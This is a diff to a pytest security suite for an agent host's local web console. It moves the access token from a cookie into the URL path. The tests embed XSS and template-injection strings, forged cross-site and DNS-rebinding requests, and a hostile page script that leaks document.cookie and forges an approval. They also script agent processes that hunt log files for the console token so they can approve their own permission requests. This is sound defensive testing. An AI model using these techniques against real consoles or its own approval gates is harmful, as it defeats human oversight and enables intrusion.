@@ -6,8 +6,11 @@ Hostile scripted agents are started for it the way 'alos run --detach' does (in-
 spawn commits and rings the store's bell; the host picks them up), and the tests read the
 console over HTTP as a browser would, or as a hostile page or local program would.
 
-Every test states the defended behaviour. A test marked ``xfail(strict=True, reason="ATTACK
-WORKS: ...")`` shows an attack that works today: it passes once the defence is in place.
+The host's output goes to a pipe (and is copied to a log in a workspace), so it prints its
+address only and keeps the URL with its token in console-PORT.url in the store's directory; the
+tests read that file, and every page lives under /TOKEN/. Every test states the defended
+behaviour; none is marked as an attack that works (a newly found one would be an
+``xfail(strict=True, reason="ATTACK WORKS: ...")`` until it is defended).
 """
 
 from __future__ import annotations
@@ -26,6 +29,7 @@ import subprocess
 import tempfile
 import threading
 import time
+import urllib.parse
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from html.parser import HTMLParser
@@ -41,7 +45,10 @@ from tests.support import ALOS, grants, write_script
 
 START_SECONDS = 45.0  # the longest a host may take to print its console URL (a busy machine)
 WAIT_SECONDS = 30.0  # the longest an agent may take to reach the state a test waits for
-URL_LINE = re.compile(r"console: (http://127\.0\.0\.1:(\d+)/\?token=([A-Za-z0-9_-]+))")
+# off a terminal (its stdout is a pipe here) the host prints its address and the file of the
+# store's directory that holds its URL with the token (0600, where no process reaches)
+URL_LINE = re.compile(r"console: http://127\.0\.0\.1:(\d+)/ \(the URL with its token is in (/\S+)\)")
+URL_TEXT = re.compile(r"^(http://127\.0\.0\.1:(\d+)/\?token=([A-Za-z0-9_-]+))\n$")
 CSRF = re.compile(r'(?:name="csrf" value="|"X-CSRF-Token": ")([^"]+)"')  # a form's, or the header htmx sends
 
 # -- what a hostile model writes everywhere it can -------------------------------------------
@@ -108,6 +115,7 @@ class Host:
     url: str = ""
     port: int = 0
     token: str = ""
+    url_file: Path | None = None  # console-PORT.url in the store's directory
     tee: Path | None = None  # a file the host's output is copied to, as 'alos serve > serve.log' would
     scripts: int = 0
 
@@ -116,8 +124,9 @@ class Host:
         return f"http://127.0.0.1:{self.port}"
 
     @property
-    def cookie(self) -> str:
-        return f"alos_console_{self.port}"
+    def home(self) -> str:
+        """Return the root every page lives under: the origin, then the token."""
+        return f"{self.base}/{self.token}"
 
     def output(self) -> str:
         return "".join(self.lines[-80:])
@@ -189,7 +198,8 @@ class Host:
 
 def start_host(root: Path, *, console_only: bool = False, nofile: int | None = None, tee: Path | None = None) -> Host:
     """Start 'alos serve --store ROOT/st/store.db --console --port 0' (or 'alos console'); return
-    it once it printed its URL."""
+    it once it printed its address and the file holding its URL, that file read (it must be the
+    user's alone, and the output must not hold the token)."""
     store = str(root / "st" / "store.db")
     (root / "st").mkdir(exist_ok=True)
     cmd = [*ALOS, "console", "--store", store, "--port", "0"]
@@ -220,7 +230,7 @@ def start_host(root: Path, *, console_only: bool = False, nofile: int | None = N
                     out.write(line)
                 found = URL_LINE.search(line)
                 if found and not seen.is_set():
-                    h.url, h.port, h.token = found.group(1), int(found.group(2)), found.group(3)
+                    h.port, h.url_file = int(found.group(1)), Path(found.group(2))
                     seen.set()
         finally:
             if out is not None:
@@ -228,9 +238,19 @@ def start_host(root: Path, *, console_only: bool = False, nofile: int | None = N
             seen.set()
 
     threading.Thread(target=drain, daemon=True).start()
-    if not seen.wait(START_SECONDS) or not h.url:
+    if not seen.wait(START_SECONDS) or h.url_file is None:
         h.stop()
-        raise AssertionError(f"{cmd[3]} printed no 'console: URL' line:\n{h.output()}")
+        raise AssertionError(f"{cmd[3]} printed no 'console: ADDRESS (... in FILE)' line:\n{h.output()}")
+    try:
+        assert h.url_file == Path(os.path.realpath(store)).parent / f"console-{h.port}.url", h.url_file
+        assert h.url_file.stat().st_mode & 0o777 == 0o600, oct(h.url_file.stat().st_mode)
+        kept = URL_TEXT.match(h.url_file.read_text())
+        assert kept is not None and int(kept.group(2)) == h.port, h.url_file.read_text()
+        h.url, h.token = kept.group(1), kept.group(3)
+        assert h.token not in h.output(), f"{cmd[3]} printed its token:\n{h.output()}"
+    except BaseException:
+        h.stop()
+        raise
     return h
 
 
@@ -243,10 +263,12 @@ def wait_until(holds: Callable[[], bool], what: str, h: Host | None = None, seco
 
 
 def login(h: Host) -> tuple[httpx.Client, str]:
-    """Return a client holding the console's cookie (traded for the URL's token) and the CSRF token."""
-    web = httpx.Client(base_url=h.base, headers={"Origin": h.base}, timeout=30)
+    """Return a client whose paths are under the console's root (the token leads them; httpx joins
+    its base path to each request's) and the CSRF token; changes carry this console's Origin."""
+    web = httpx.Client(base_url=h.home, headers={"Origin": h.base}, timeout=30)
     first = web.get(h.url)
-    assert first.status_code == 303, first.text
+    assert first.status_code == 303 and first.headers["location"] == f"/{h.token}/processes", first.headers
+    assert "set-cookie" not in first.headers and not web.cookies
     page = web.get("/processes")
     assert page.status_code == 200, page.text
     found = CSRF.search(page.text)
@@ -277,9 +299,10 @@ class Tags(HTMLParser):
         self.text.append(data)
 
 
-def nothing_runs(page: str, where: str) -> str:
-    """Assert that ``page`` holds no element, attribute or script a process could have put there;
-    return its text (entities decoded)."""
+def nothing_runs(page: str, where: str, root: str) -> str:
+    """Assert that ``page`` holds no element, attribute or script a process could have put there
+    (the console's own scripts and style sheet are under ``root``, its token's path); return its
+    text (entities decoded)."""
     parsed = Tags(page)
     for tag, attrs in parsed.tags:
         assert tag in ALLOWED_TAGS, f"{where}: a <{tag} {attrs}> element got into the page"
@@ -291,9 +314,9 @@ def nothing_runs(page: str, where: str) -> str:
             if name.startswith(("hx-", "sse-")) and name != "hx-confirm":  # hx-confirm is confirm()'s text
                 assert "pwn" not in (value or "") and "alert" not in (value or ""), f"{where}: <{tag} {attrs}>"
         if tag == "script":
-            assert attrs.get("src") in VENDOR, f"{where}: a script that is not the console's: {attrs}"
+            assert attrs.get("src") in {root + v for v in VENDOR}, f"{where}: a script not the console's: {attrs}"
         if tag == "link":
-            assert attrs.get("href") == "/static/console.css", f"{where}: {attrs}"
+            assert attrs.get("href") == root + "/static/console.css", f"{where}: {attrs}"
     text = "".join(parsed.text)
     assert JINJA_RAN not in text, f"{where}: a template ran"
     assert "JINJA-RAN" not in text or "{% if 1 %}JINJA-RAN{% endif %}" in text, f"{where}: a template ran"
@@ -406,7 +429,7 @@ def test_hostile_text_everywhere_is_shown_escaped_on_every_page(host: Host, agen
         r = client.get(path)
         assert r.status_code == 200, (path, r.status_code)
         assert r.headers["content-type"].startswith("text/html")
-        text = nothing_runs(r.text, path)
+        text = nothing_runs(r.text, path, f"/{host.token}")
         # the hostile text did reach the page (as text): the checks above looked at something
         assert JINJA in text, f"{path} does not show the hostile text at all"
     body = client.get(f"/process/{a.writer}/body").text
@@ -416,7 +439,7 @@ def test_hostile_text_everywhere_is_shown_escaped_on_every_page(host: Host, agen
     # a hostile URL path on a refusal page is text too
     refused = client.get("/process/%3Cscript%20data-pwn%3D1%3E")
     assert refused.status_code == 404
-    nothing_runs(refused.text, "404 page")
+    nothing_runs(refused.text, "404 page", f"/{host.token}")
     assert "&lt;script data-pwn=1&gt;" in refused.text
 
 
@@ -523,7 +546,7 @@ def test_a_stale_page_cannot_answer_the_request_that_replaced_its_own(host: Host
     )
     first = host.wait_pending(pid)
     stale = client.get("/approvals").text
-    assert f'action="/requests/{first.id}/answer"' in stale
+    assert f'action="/{host.token}/requests/{first.id}/answer"' in stale
     r = client.post(f"/requests/{first.id}/answer", data={"verdict": "once", "csrf": csrf}, headers=HX)
     assert r.status_code == 200 and f"request {first.id} approved once" in r.text, r.text
     wait_until(lambda: any(q.id != first.id for q in host.pending(pid)), "the second request", host)
@@ -551,7 +574,10 @@ def test_a_stale_page_cannot_answer_the_request_that_replaced_its_own(host: Host
 # -- 3. who may use the console -----------------------------------------------------------------
 
 
-def test_every_route_needs_the_token(host: Host, agents: Agents) -> None:
+def test_every_route_needs_the_token_in_its_path(host: Host, agents: Agents) -> None:
+    """Each page and file is answered only under /TOKEN/: not without it, not under a wrong or
+    shortened token, not with the token elsewhere in the path, in the query or in a cookie (no
+    cookie is ever read); a refusal never shows the token."""
     rid = host.pending(agents.writer)[0].id
     routes = [
         "/",
@@ -569,31 +595,61 @@ def test_every_route_needs_the_token(host: Host, agents: Agents) -> None:
         "/static/vendor/htmx.min.js",
         "/static/console.css",
     ]
-    wrong = "x" * len(host.token)
+    tok = host.token
+    wrong = "x" * len(tok)
+    jars: list[dict[str, str]] = [
+        {},
+        {f"alos_console_{host.port}": tok},  # the cookie the console used to set
+        {"token": tok, "alos_console": tok, f"alos_console_{host.port + 1}": tok},
+    ]
     for path in routes:
-        for jar in ({}, {host.cookie: wrong}, {f"alos_console_{host.port + 1}": host.token}):
+        for jar in jars:
             r = httpx.get(host.base + path, cookies=jar, timeout=10)
             assert r.status_code == 403, (path, jar, r.status_code)
-            assert host.token not in r.text
+            assert tok not in r.text and "token" in r.text, (path, r.text)
+        for prefix in (wrong, tok[:-1], tok + "x", tok.swapcase(), "%2F" + tok):
+            r = httpx.get(f"{host.base}/{prefix}{path}", timeout=10)
+            assert r.status_code == 403, (prefix, path, r.status_code)
+        if path != "/":
+            r = httpx.get(f"{host.base}{path}/{tok}", timeout=10)  # the token, but not first
+            assert r.status_code == 403, (path, r.status_code)
         r = httpx.get(host.base + path + "?token=" + wrong, timeout=10)
         assert r.status_code == 403, (path, r.status_code)
-    # the right cookie under its own name opens them (the refusals above were about the token)
-    ok = httpx.get(host.base + "/approvals/count", cookies={host.cookie: host.token}, timeout=10)
+    # a change with the token in its query, not its path, is refused (only a GET of it is moved)
+    posted = httpx.post(
+        f"{host.base}/requests/{rid}/answer?token={tok}",
+        headers={"Origin": host.base},
+        data={"verdict": "once"},
+        timeout=10,
+    )
+    assert posted.status_code == 403 and "token" in posted.text, (posted.status_code, posted.text)
+    # the token in the path opens them (the refusals above were about the token)
+    ok = httpx.get(host.home + "/approvals/count", timeout=10)
     assert ok.status_code == 200 and int(ok.text) >= 1
     assert host.request(rid).state.value == "pending"
 
 
-def test_the_token_is_traded_for_a_strict_cookie_and_leaves_the_address(host: Host) -> None:
+def test_the_printed_url_moves_the_token_into_the_path_and_no_cookie_is_set(host: Host) -> None:
+    """The URL the host keeps (/?token=T) answers 303 to /T/processes, a deeper one keeps its
+    path and query under /T/; no answer sets a cookie."""
+    tok = host.token
     r = httpx.get(host.url, timeout=10)
-    assert r.status_code == 303 and r.headers["location"] == "/"
-    cookie = r.headers["set-cookie"]
-    assert cookie.startswith(f"{host.cookie}={host.token};")
-    attrs = {a.strip().lower() for a in cookie.split(";")[1:]}
-    assert {"httponly", "path=/", "samesite=strict"} <= attrs and not any(a.startswith("domain") for a in attrs)
+    assert r.status_code == 303 and r.headers["location"] == f"/{tok}/processes"
+    assert "set-cookie" not in r.headers
     for name, value in SECURITY_HEADERS.items():
         assert r.headers.get(name) == value, (name, r.headers.get(name))
-    deeper = httpx.get(host.base + f"/audit?pid=1&token={host.token}", timeout=10)
-    assert deeper.status_code == 303 and deeper.headers["location"] == "/audit?pid=1"
+    deeper = httpx.get(host.base + f"/audit?pid=1&token={tok}", timeout=10)
+    assert deeper.status_code == 303 and deeper.headers["location"] == f"/{tok}/audit?pid=1"
+    bare = httpx.get(host.home, timeout=10)
+    assert bare.status_code == 303 and bare.headers["location"] == f"/{tok}/processes"
+    with httpx.Client(timeout=10, follow_redirects=True) as browser:
+        landed = browser.get(host.url)
+        assert landed.status_code == 200 and str(landed.url) == f"{host.home}/processes"
+        assert [h for resp in (*landed.history, landed) for h in resp.headers if h.lower() == "set-cookie"] == []
+        assert not browser.cookies
+        # every link of the page is under the token's path (a link outside it would be refused)
+        links = re.findall(r'(?:href|src|action|hx-get|hx-post|sse-connect)="([^"]*)"', landed.text)
+        assert links and all(link.startswith(f"/{tok}/") for link in links), links
 
 
 def test_security_headers_on_every_kind_of_answer(host: Host, web: Any) -> None:
@@ -625,45 +681,40 @@ def test_requests_from_other_sites_and_forged_forms_change_nothing(host: Host, a
     client, csrf = web
     w = agents.waiter
     rid = host.pending(agents.writer)[0].id
-    jar = {host.cookie: host.token}
-    me = host.base
+    me, mine = host.base, host.home  # the origin, and the root of the console's paths
+    jar = f"alos_console_{host.port}={host.token}"  # a cookie holding the token (as the console once set): ignored
     form = {"signal": "kill", "csrf": csrf}
-    cases: list[tuple[str, dict[str, str], dict[str, str], dict[str, str], int]] = [
-        ("no Origin, no Referer", {}, jar, form, 403),
-        ("Origin of another site", {"Origin": "http://evil.example"}, jar, form, 403),
-        ("Origin null (a sandboxed frame)", {"Origin": "null"}, jar, form, 403),
-        ("another port of localhost", {"Origin": f"http://127.0.0.1:{host.port + 1}"}, jar, form, 403),
-        ("a look-alike origin", {"Origin": f"{me}.evil.example"}, jar, form, 403),
-        ("cross-site fetch", {"Origin": me, "Sec-Fetch-Site": "cross-site"}, jar, form, 403),
-        ("same-site fetch (another port)", {"Origin": me, "Sec-Fetch-Site": "same-site"}, jar, form, 403),
-        ("Referer of another site", {"Referer": "http://evil.example/"}, jar, form, 403),
-        ("Referer of a look-alike host", {"Referer": f"{me}.evil.example/"}, jar, form, 403),
-        ("no CSRF token", {"Origin": me}, jar, {"signal": "kill"}, 403),
-        ("a wrong CSRF token", {"Origin": me}, jar, {"signal": "kill", "csrf": csrf[::-1]}, 403),
-        ("the CSRF token without the cookie", {"Origin": me}, {}, form, 403),
-        ("a DNS name rebound to 127.0.0.1", {"Origin": "http://evil.example", "Host": "evil.example"}, jar, form, 400),
-        ("the right Origin under a rebound Host", {"Origin": me, "Host": f"evil.example:{host.port}"}, jar, form, 400),
+    cases: list[tuple[str, dict[str, str], str, dict[str, str], int]] = [
+        ("no Origin, no Referer", {}, mine, form, 403),
+        ("Origin of another site", {"Origin": "http://evil.example"}, mine, form, 403),
+        ("Origin null (a sandboxed frame)", {"Origin": "null"}, mine, form, 403),
+        ("another port of localhost", {"Origin": f"http://127.0.0.1:{host.port + 1}"}, mine, form, 403),
+        ("a look-alike origin", {"Origin": f"{me}.evil.example"}, mine, form, 403),
+        ("cross-site fetch", {"Origin": me, "Sec-Fetch-Site": "cross-site"}, mine, form, 403),
+        ("same-site fetch (another port)", {"Origin": me, "Sec-Fetch-Site": "same-site"}, mine, form, 403),
+        ("Referer of another site", {"Referer": "http://evil.example/"}, mine, form, 403),
+        ("Referer of a look-alike host", {"Referer": f"{me}.evil.example/"}, mine, form, 403),
+        ("no CSRF token", {"Origin": me}, mine, {"signal": "kill"}, 403),
+        ("a wrong CSRF token", {"Origin": me}, mine, {"signal": "kill", "csrf": csrf[::-1]}, 403),
+        ("the CSRF token without the token in the path", {"Origin": me}, me, form, 403),
+        ("the CSRF token, the access token in a cookie", {"Origin": me, "Cookie": jar}, me, form, 403),
+        ("a DNS name rebound to 127.0.0.1", {"Origin": "http://evil.example", "Host": "evil.example"}, mine, form, 400),
+        ("the right Origin under a rebound Host", {"Origin": me, "Host": f"evil.example:{host.port}"}, mine, form, 400),
     ]
-    for what, headers, cookies, data, status in cases:
-        r = httpx.post(f"{me}/process/{w}/signal", headers=headers, cookies=cookies, data=data, timeout=10)
+    for what, headers, under, data, status in cases:
+        r = httpx.post(f"{under}/process/{w}/signal", headers=headers, data=data, timeout=10)
         assert r.status_code == status, (what, r.status_code, r.text[:200])
-        a = httpx.post(
-            f"{me}/requests/{rid}/answer",
-            headers=headers,
-            cookies=cookies,
-            data={**data, "verdict": "once"},
-            timeout=10,
-        )
+        a = httpx.post(f"{under}/requests/{rid}/answer", headers=headers, data={**data, "verdict": "once"}, timeout=10)
         assert a.status_code == status, (what, a.status_code, a.text[:200])
     plain = httpx.post(
-        f"{me}/process/{w}/signal", headers={"Origin": me}, cookies=jar, content=b"signal=kill&csrf=" + csrf.encode()
+        f"{mine}/process/{w}/signal", headers={"Origin": me}, content=b"signal=kill&csrf=" + csrf.encode()
     )
     assert plain.status_code == 415  # a text/plain "simple" cross-site form body
-    by_get = httpx.get(f"{me}/process/{w}/signal?signal=kill&csrf={csrf}", cookies=jar, timeout=10)
+    by_get = httpx.get(f"{mine}/process/{w}/signal?signal=kill&csrf={csrf}", timeout=10)
     assert by_get.status_code == 405
     for path in ("/approvals", "/events", "/audit/export.jsonl"):  # <img>, EventSource, a link from a page
         for site in ("cross-site", "same-site"):
-            read = httpx.get(f"{me}{path}", headers={"Sec-Fetch-Site": site}, cookies=jar, timeout=10)
+            read = httpx.get(f"{mine}{path}", headers={"Sec-Fetch-Site": site}, timeout=10)
             assert read.status_code == 403, (path, site, read.status_code)
     assert host.process(w).exit is None
     assert host.request(rid).state.value == "pending"
@@ -680,31 +731,34 @@ def test_requests_from_other_sites_and_forged_forms_change_nothing(host: Host, a
 
 
 @pytest.mark.slow
-def test_another_consoles_cookie_and_csrf_token_open_nothing(host: Host, agents: Agents, web: Any) -> None:
+def test_another_consoles_token_and_csrf_token_open_nothing(host: Host, agents: Agents, web: Any) -> None:
     """Two consoles on one store (as a console restarted): each start makes its own token and CSRF
-    token; neither opens the other."""
+    token and its own URL file; neither opens the other, and the file goes when its console stops."""
     client, csrf = web
     other = start_host(host.root, console_only=True)
     try:
+        assert other.url_file is not None and other.url_file != host.url_file
         o_client, o_csrf = login(other)
         assert other.token != host.token and o_csrf != csrf
-        stolen = {host.cookie: other.token}
-        r = httpx.get(host.base + "/processes", cookies=stolen, timeout=10)
+        r = httpx.get(f"{host.base}/{other.token}/processes", timeout=10)  # its token, our port
         assert r.status_code == 403
-        again = httpx.get(host.base + "/processes", cookies={other.cookie: other.token}, timeout=10)
-        assert again.status_code == 403
+        r = httpx.get(f"{host.base}/processes?token={other.token}", timeout=10)
+        assert r.status_code == 403
         forged = client.post(
             f"/process/{agents.waiter}/signal", data={"signal": "kill", "csrf": o_csrf}, headers=HX
-        )  # our cookie, the other console's CSRF token
+        )  # our token, the other console's CSRF token
         assert forged.status_code == 403
         crossed = o_client.post(
             f"/process/{agents.waiter}/signal", data={"signal": "kill", "csrf": csrf}, headers=HX
-        )  # its cookie, our CSRF token
+        )  # its token, our CSRF token
         assert crossed.status_code == 403
         assert host.process(agents.waiter).exit is None
         o_client.close()
     finally:
         other.stop()
+    assert other.proc.returncode == 0, other.output()
+    assert not other.url_file.exists(), f"{other.url_file} outlived its console"
+    assert host.url_file is not None and host.url_file.exists()  # the running console's stays
 
 
 def test_an_enormous_form_is_refused_unread_and_changes_nothing(host: Host, agents: Agents, web: Any) -> None:
@@ -712,8 +766,7 @@ def test_an_enormous_form_is_refused_unread_and_changes_nothing(host: Host, agen
     413, or the connection closed while the rest is still being sent; no message is queued."""
     _, csrf = web
     w = agents.waiter
-    me = host.base
-    jar = {host.cookie: host.token}
+    me, mine = host.base, host.home
 
     def chunks() -> Iterator[bytes]:  # no Content-Length: the body is refused as it comes
         yield f"csrf={csrf}&text=".encode()
@@ -728,29 +781,30 @@ def test_an_enormous_form_is_refused_unread_and_changes_nothing(host: Host, agen
     for what, body in bodies.items():
         headers = {**HX, "Origin": me, **body.pop("headers", {})}
         try:
-            got: int | str = httpx.post(
-                f"{me}/process/{w}/send", headers=headers, cookies=jar, timeout=10, **body
-            ).status_code
+            got: int | str = httpx.post(f"{mine}/process/{w}/send", headers=headers, timeout=10, **body).status_code
         except (httpx.WriteError, httpx.ReadError, httpx.RemoteProtocolError) as err:
             got = type(err).__name__  # the server answered 413 and closed before the body was all sent
         assert got in (413, "WriteError", "ReadError", "RemoteProtocolError"), (what, got)
     assert time.monotonic() - started < 10
     messages = host.read(lambda rt: rt.context(w))
     assert not any("AAAA" in str(m) or "BBBB" in str(m) for m in messages)
-    ok = httpx.post(
-        f"{me}/process/{w}/send", headers={**HX, "Origin": me}, cookies=jar, data={"text": "C" * 4000, "csrf": csrf}
-    )
+    ok = httpx.post(f"{mine}/process/{w}/send", headers={**HX, "Origin": me}, data={"text": "C" * 4000, "csrf": csrf})
     assert ok.status_code == 200, ok.text  # the longest message a person may type still goes
     wait_until(lambda: any("C" * 4000 in str(m) for m in host.read(lambda rt: rt.context(w))), "the message", host)
 
 
 def test_the_token_is_never_written_where_a_process_could_look(host: Host, agents: Agents) -> None:
-    """Not in the store (database, WAL, the bell's directory), not in the host's command line or
-    environment: the only copy outside the host's memory is what it printed."""
+    """Not in the store (database, WAL, the bell's directory), not in what the host printed (a log
+    a process may read: serve.log in a workspace), not in the host's command line or environment:
+    the only copy outside the host's memory is console-PORT.url, 0600, in the store's directory
+    (which the fs tools refuse and an isolated command sees empty: the tests of part 4)."""
     st = Path(host.store).parent
-    for path in st.rglob("*"):
-        if path.is_file():
-            assert host.token.encode() not in path.read_bytes(), path
+    holding = sorted(p.name for p in st.rglob("*") if p.is_file() and host.token.encode() in p.read_bytes())
+    assert holding == [f"console-{host.port}.url"], holding
+    assert host.url_file is not None and host.url_file.read_text() == host.url + "\n"
+    assert host.url_file.stat().st_mode & 0o777 == 0o600
+    assert host.token not in "".join(host.lines)
+    assert host.tee is not None and host.tee.read_text() and host.token not in host.tee.read_text()
     bells = [p for p in st.iterdir() if p.name.startswith(".alos-bell-")]
     assert bells and all(os.stat(b).st_mode & 0o077 == 0 for b in bells)  # 0700: the user's alone
     for b in bells:
@@ -795,14 +849,16 @@ def test_net_fetch_cannot_reach_the_console_on_loopback(host: Host, root: Path) 
     assert len(results) == len(urls) and not any('"status"' in str(m.get("content")) for m in results), results
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="ATTACK WORKS: a process granted loopback for a dev server (net:127.0.0.1, which covers every "
-    "port) reads the console URL from the host's log in its workspace and approves its own requests",
-)
 def test_a_process_cannot_answer_its_own_requests_through_the_console(host: Host, root: Path, web: Any) -> None:
+    """A process granted loopback for a dev server (net:127.0.0.1, which covers every port) and
+    reading everywhere (fs:/*) looks for the console's token in the host's log in its workspace
+    (serve.log), in the file that log names (console-PORT.url) and through a link to it, then
+    drives the console with whatever it found (the token in the path, in the query, in the cookie
+    the console once set; the CSRF token read from a page it got): its request still waits. Each
+    stage is a process of its own, scripted with only what the previous one read."""
     _, csrf = web
     ws = host.tee.parent if host.tee is not None else workspace(root, "ws-net")
+    assert host.url_file is not None
     victim = host.spawn(
         [turn("write", call("fs_write", path="stolen.txt", content="approved by myself\n"))],
         ws,
@@ -811,35 +867,75 @@ def test_a_process_cannot_answer_its_own_requests_through_the_console(host: Host
     )
     req = host.wait_pending(victim)
     (root / "netter.yaml").write_text(NETTER)
+    (ws / "console.url").unlink(missing_ok=True)
+    (ws / "console.url").symlink_to(host.url_file)  # as a command the process ran could have made
     me = f"http://127.0.0.1:{host.port}"
-    jar = {"Cookie": f"{host.cookie}={host.token}"}
-    form = {**jar, "Origin": me, "X-CSRF-Token": csrf, "HX-Request": "true"}
-    form["Content-Type"] = "application/x-www-form-urlencoded"
-    attacker = host.spawn(
+    loopback = ("fs:/*=read,list", "net:127.0.0.1=read,write")
+
+    def attack(calls: list[dict[str, Any]]) -> list[str]:  # one process making ``calls``; its tool results
+        pid = host.spawn(
+            [turn("look", *calls), turn("done", call("proc_exit", result="done"))],
+            ws,
+            allow=loopback,
+            image=str(root / "netter.yaml"),
+        )
+        host.wait_exit(pid)
+        return [str(m.get("content")) for m in host.read(lambda rt: rt.context(pid)) if m.get("role") == "tool"]
+
+    read = attack(
         [
-            turn("what does the host say?", call("fs_read", path="serve.log")),
-            turn("the console", call("net_fetch", url=f"{me}/approvals", headers=jar)),
-            turn(
-                "approve it",
-                call(
-                    "net_fetch", url=f"{me}/requests/{req.id}/answer", method="POST", headers=form, body="verdict=once"
-                ),
-            ),
-            turn("done", call("proc_exit", result="done")),
-        ],
-        ws,
-        allow=("fs:*=read,list", "net:127.0.0.1=read,write"),
-        image=str(root / "netter.yaml"),
+            call("fs_read", path="serve.log"),
+            call("fs_read", path=str(host.url_file)),
+            call("fs_read", path="console.url"),
+        ]
     )
-    host.wait_exit(attacker)
-    results = [str(m.get("content")) for m in host.read(lambda rt: rt.context(attacker)) if m.get("role") == "tool"]
-    learned = host.token in results[0], csrf in (results[1] if len(results) > 1 else "")
+    assert len(read) == 3, read
+    tokens = sorted(
+        set(re.findall(r"token=([A-Za-z0-9_-]{20,})", "".join(read)))
+        | set(re.findall(rf"127\.0\.0\.1:{host.port}/([A-Za-z0-9_-]{{40,}})", "".join(read)))
+    )
+    cookie = f"alos_console_{host.port}"
+    pages = [call("net_fetch", url=f"{me}/approvals")]  # and with each token it found, every way it may go
+    for t in tokens:
+        pages += [
+            call("net_fetch", url=f"{me}/{t}/approvals"),
+            call("net_fetch", url=f"{me}/approvals?token={t}"),
+            call("net_fetch", url=f"{me}/approvals", headers={"Cookie": f"{cookie}={t}"}),
+        ]
+    got = attack(pages)
+    csrfs = sorted(
+        set(re.findall(r'(?:name=\\?"csrf\\?" value=\\?"|X-CSRF-Token\\?": \\?")([A-Za-z0-9_-]+)', "".join(got)))
+    )
+    answer = f"/requests/{req.id}/answer"
+    posts: list[tuple[str, dict[str, str]]] = [(me + answer, {})]
+    for t in tokens:
+        posts += [
+            (f"{me}/{t}{answer}", {}),
+            (f"{me}{answer}?token={t}", {}),
+            (me + answer, {"Cookie": f"{cookie}={t}"}),
+        ]
+    form = {"Origin": me, "HX-Request": "true", "Content-Type": "application/x-www-form-urlencoded"}
+    attack(
+        [
+            call(
+                "net_fetch", url=url, method="POST", headers={**form, **headers, "X-CSRF-Token": c}, body="verdict=once"
+            )
+            for url, headers in posts
+            for c in csrfs or ["none"]
+        ]
+    )
     time.sleep(0.5)
     assert host.request(req.id).state.value == "pending", (
         f"request {req.id} was answered by {host.request(req.id).answered_by} "
-        f"(token read from serve.log: {learned[0]}, CSRF token read from the page: {learned[1]})"
+        f"(tokens read: {len(tokens)}, CSRF tokens read from a page: {len(csrfs)})"
     )
     assert not (ws / "stolen.txt").exists()
+    # what kept it out: the log names the file but holds no token, and the file is refused however reached
+    assert f"console: {me}/ (the URL with its token is in {host.url_file})" in read[0], read[0]
+    for refused in read[1:]:
+        assert "inside alos's store directory" in refused, refused
+    assert tokens == [] and host.token not in "".join(read + got), "the process read the console's token"
+    assert csrf not in "".join(got)
 
 
 def test_an_isolated_command_reaches_neither_the_console_nor_the_store(host: Host, root: Path) -> None:
@@ -907,14 +1003,62 @@ def test_an_isolated_command_reaches_neither_the_console_nor_the_store(host: Hos
     assert listener.is_socket()  # the host's listener is still there
 
 
+HOSTILE_PAGE = """<!doctype html><title>the dev server</title><p>the dev server</p>
+<a id="back" href="{console}/approvals">back to the console</a>
+<script>
+const report = (what) => fetch("/report?" + new URLSearchParams(what));
+report({{referrer: document.referrer, href: location.href, cookie: document.cookie}});
+Promise.allSettled([
+  fetch("{console}/approvals/count", {{credentials: "include", mode: "no-cors"}}),
+  fetch("{console}/requests/{rid}/answer", {{method: "POST", credentials: "include", mode: "no-cors",
+    body: new URLSearchParams({{verdict: "always"}})}}),
+]).then(() => report({{done: "1"}}));
+</script>"""
+HOSTILE_FORM = """<!doctype html><title>a form</title>
+<form id="f" method="post" action="{console}/requests/{rid}/answer"><input name="verdict" value="always"></form>
+<script>document.getElementById("f").submit();</script>"""
+
+
+@dataclass
+class Heard:
+    """What a hostile local server received: each request's method, target (path and query) and
+    headers."""
+
+    requests: list[tuple[str, str, list[tuple[str, str]]]] = field(default_factory=list)
+
+    def paths(self) -> list[str]:
+        return [target.split("?")[0] for _, target, _ in self.requests]
+
+
+def hostile_server(heard: Heard, console: str, rid: int) -> http.server.HTTPServer:
+    """Return a server on another port of 127.0.0.1 (a dev server an agent started) recording into
+    ``heard`` every request it gets; its pages try to reach the console and to answer ``rid``."""
+
+    class Hostile(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            heard.requests.append((self.command, self.path, list(self.headers.items())))
+            page = {"/": HOSTILE_PAGE, "/form": HOSTILE_FORM}.get(self.path.split("?")[0], "<p>ok</p>")
+            body = page.format(console=console, rid=rid).encode()
+            self.send_response(200)
+            self.send_header("content-type", "text/html")
+            self.send_header("content-length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        do_POST = do_GET
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    return http.server.HTTPServer(("127.0.0.1", 0), Hostile)
+
+
 @pytest.mark.slow
-@pytest.mark.xfail(
-    strict=True,
-    reason="ATTACK WORKS: the console's cookie (the token itself) is sent by the browser to every port of "
-    "127.0.0.1 (cookies ignore ports): a local server the person visits (a dev server an agent started) "
-    "gets it and drives the console",
-)
-def test_a_server_on_another_local_port_never_gets_the_console_token(host: Host, root: Path, web: Any) -> None:
+def test_a_server_on_another_local_port_never_gets_the_console_token(host: Host, root: Path) -> None:
+    """The person opens the console, follows a link from it to a dev server on another local port
+    (an agent started it) and opens that server again later: the server gets the token in no
+    header (no cookie, no Referer), no path or query and no script-visible value; its pages' calls,
+    link and form back into the console are refused; the request still waits."""
     if not Path("/usr/bin/chromium").exists():
         pytest.skip("Debian's chromium is not installed")
     sync_api = pytest.importorskip("playwright.sync_api")
@@ -926,43 +1070,68 @@ def test_a_server_on_another_local_port_never_gets_the_console_token(host: Host,
         ask=("fs:*=write",),
     )
     req = host.wait_pending(victim)
-    seen: list[str] = []
-
-    class Hostile(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            seen.append(self.headers.get("Cookie") or "")
-            self.send_response(200)
-            self.send_header("content-type", "text/html")
-            self.end_headers()
-            self.wfile.write(b"<p>the dev server</p>")
-
-        def log_message(self, *args: Any) -> None:
-            pass
-
-    server = http.server.HTTPServer(("127.0.0.1", 0), Hostile)
+    heard = Heard()
+    server = hostile_server(heard, host.base, req.id)
+    dev = f"http://127.0.0.1:{server.server_address[1]}"
     threading.Thread(target=server.serve_forever, daemon=True).start()
+
+    def until(page: Any, holds: Callable[[], bool], what: str) -> None:  # Playwright's events flow meanwhile
